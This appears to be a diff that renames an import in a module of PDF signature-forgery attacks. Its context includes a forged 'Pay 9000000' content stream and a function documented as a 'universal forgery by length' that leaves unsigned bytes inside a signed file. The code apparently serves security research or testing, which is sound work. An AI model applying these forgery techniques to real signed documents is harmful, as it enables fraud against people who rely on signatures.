@@ -2,8 +2,8 @@
 
 import re
 
+import attacks_fields as fields
 import attacks_makers as makers
-import attacks_updates as updates
 from pyhanko.pdf_utils.reader import PdfFileReader
 
 FORGED = b'q 1 1 1 rg 90 660 400 60 re f Q BT 100 690 Td (Pay 9000000) Tj ET'
@@ -55,7 +55,7 @@ def container_elsewhere(pdf: bytes) -> bytes:
     """Universal forgery by length: a new signature dictionary with the old byte range, and a container so long that
     range and container add up to the length of the whole file; what lies between is signed by nobody."""
     start, end, length = _parts(pdf)
-    reference = updates.field_by_name(_reader(pdf), 'Signature1').raw_get('/V').reference
+    reference = fields.field_by_name(_reader(pdf), 'Signature1').raw_get('/V').reference
     container = bytes.fromhex(pdf[start + 1:end - 1].decode())
 
     def appended(padding: int) -> bytes:
